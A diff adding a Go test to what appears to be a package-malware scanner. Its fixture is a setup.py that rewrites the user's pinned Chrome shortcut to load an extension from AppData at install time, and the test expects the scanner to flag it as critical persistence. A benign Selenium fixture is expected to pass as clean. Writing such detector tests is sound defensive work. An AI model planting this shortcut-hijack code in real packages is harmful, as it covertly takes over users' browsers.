@@ -380,3 +380,14 @@ func TestEnvironmentDumpSent(t *testing.T) {
 		t.Errorf("env output posted at install: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestBrowserShortcutHijack(t *testing.T) {
+	r := sdist(t, map[string]string{"setup.py": "import os\nfrom win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\nlnk = shell.CreateShortcut(os.getenv('APPDATA') + '\\\\Microsoft\\\\Internet Explorer\\\\Quick Launch\\\\User Pinned\\\\TaskBar\\\\chrome.lnk')\nlnk.Arguments = '--load-extension=' + os.getenv('APPDATA') + '\\\\ext'\nlnk.Save()\n"})
+	if r.Verdict != Malicious || !hasRule(r, "persistence", Critical) {
+		t.Errorf("browser shortcut rewritten at install: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"p/driver.py": "def options(o, ext):\n    o.add_argument('--load-extension=' + ext)\n    return o\n"})
+	if r.Verdict != Clean {
+		t.Errorf("selenium helper loading a test extension: %s %+v", r.Verdict, r.Findings)
+	}
+}
